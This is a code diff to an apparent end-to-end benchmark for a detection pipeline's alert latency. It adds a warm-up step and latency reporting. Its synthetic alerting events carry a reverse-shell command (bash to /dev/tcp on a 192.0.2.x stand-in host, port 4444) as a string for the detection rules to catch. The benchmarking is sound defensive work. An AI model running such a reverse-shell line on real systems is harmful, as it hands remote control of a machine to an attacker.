@@ -5,6 +5,10 @@ One real collector process (the project's rules) on the local test stack; events
 rules must alert on. A poller searches the alerts index every 100 ms; an alert's latency is the time from
 its event's send to the first search that returns it. Figures: e2e_latency_p50_s, e2e_latency_p99_s,
 e2e_events_per_s (the rate actually produced), e2e_alerts_found / e2e_alerts_expected.
+
+The clock starts once the collector is serving: one warm-up event's alert must be searchable first
+(e2e_warmup_s: the collector's start, group join and first alert index). A fixed sleep instead let a
+start slowed by a loaded machine count as seconds of latency for every event queued meanwhile.
 """
 
 from __future__ import annotations
@@ -17,6 +21,7 @@ import sys
 import tempfile
 import time
 from pathlib import Path
+from typing import Any
 
 from aiokafka import AIOKafkaProducer
 
@@ -34,6 +39,28 @@ SECONDS = int(os.environ.get("CANHGAC_BENCH_E2E_SECONDS", "20"))
 ALERT_EVERY = 100
 
 
+def alerting_event(n: int) -> dict[str, Any]:
+    return process_exec("/bin/bash", f"bash -c 'sh -i >& /dev/tcp/192.0.2.{n % 250}/4444 0>&1' #{n}")
+
+
+async def warm_up(run: CollectorRun, timeout_s: float = 180.0) -> float:
+    """Seconds until one alerting event, produced once the collector runs, has its alert searchable."""
+    started = time.monotonic()
+    producer = AIOKafkaProducer(**run.kafka.client_kwargs(), acks="all", enable_idempotence=True)
+    await producer.start()
+    try:
+        event = alerting_event(-1)
+        await producer.send_and_wait(run.events_topic, value=encoded(event), key=event["host"]["id"].encode())
+    finally:
+        await producer.stop()
+    sent = {event["event"]["id"]: started}
+    seen: dict[str, float] = {}
+    done = asyncio.Event()
+    done.set()  # the poller returns once it has seen the warm-up alert
+    await asyncio.wait_for(poll(run, sent, seen, done), timeout=timeout_s)
+    return time.monotonic() - started
+
+
 async def produce(run: CollectorRun, sent: dict[str, float]) -> float:
     producer = AIOKafkaProducer(**run.kafka.client_kwargs(), acks="all", enable_idempotence=True, linger_ms=2)
     await producer.start()
@@ -42,9 +69,7 @@ async def produce(run: CollectorRun, sent: dict[str, float]) -> float:
     try:
         for n in range(total):
             if n % ALERT_EVERY == 0:
-                event = process_exec(
-                    "/bin/bash", f"bash -c 'sh -i >& /dev/tcp/192.0.2.{n % 250}/4444 0>&1' #{n}"
-                )
+                event = alerting_event(n)
             else:
                 event = process_exec("/usr/bin/php-fpm", f"php-fpm: pool www #{n}")
             value = encoded(event)
@@ -101,7 +126,8 @@ async def measure(results: dict[str, float]) -> None:
         await run.create_topics(partitions=6)
         run.start_collector()
         try:
-            await asyncio.sleep(8)  # join the group before the clock starts
+            warmup = await warm_up(run)
+            print(f"  collector serving after {warmup:.1f} s (warm-up alert searchable)")
             sent: dict[str, float] = {}
             seen: dict[str, float] = {}
             done = asyncio.Event()
@@ -112,12 +138,16 @@ async def measure(results: dict[str, float]) -> None:
                 await asyncio.wait_for(poller, timeout=60)
             except TimeoutError:
                 print("  some alerts never became searchable within 60 s after the last send")
-            latencies = sorted(seen[event_id] - sent[event_id] for event_id in seen)
+            in_send_order = [seen[event_id] - sent[event_id] for event_id in sent if event_id in seen]
+            latencies = sorted(in_send_order)
         finally:
             run.stop_all()
-            stage_lines = [line for line in run.logs().splitlines() if "Pipeline: Counters" in line]
+            stage_lines = [
+                line for line in run.logs().splitlines() if "Pipeline: " in line and "Counters(" in line
+            ]
             for line in stage_lines[-2:]:
                 print("  collector", line.split(" INFO ", 1)[-1][:600])
+    results["e2e_warmup_s"] = round(warmup, 1)
     results["e2e_events_per_s"] = round(rate, 1)
     results["e2e_alerts_expected"] = float(len(sent))
     results["e2e_alerts_found"] = float(len(latencies))
@@ -128,6 +158,12 @@ async def measure(results: dict[str, float]) -> None:
         )
     print(f"  produced {rate:.0f} events/s; alerts {len(latencies)}/{len(sent)}")
     print(f"  latency p50 {results.get('e2e_latency_p50_s')} s, p99 {results.get('e2e_latency_p99_s')} s")
+    if in_send_order:  # a slow start or a stall shows as a run of high latencies in one tenth of the run
+        tenths = [
+            in_send_order[i * len(in_send_order) // 10 : (i + 1) * len(in_send_order) // 10]
+            for i in range(10)
+        ]
+        print("  worst latency per tenth of the run, s:", " ".join(f"{max(t):.2f}" for t in tenths if t))
 
 
 def run(results: dict[str, float]) -> None:
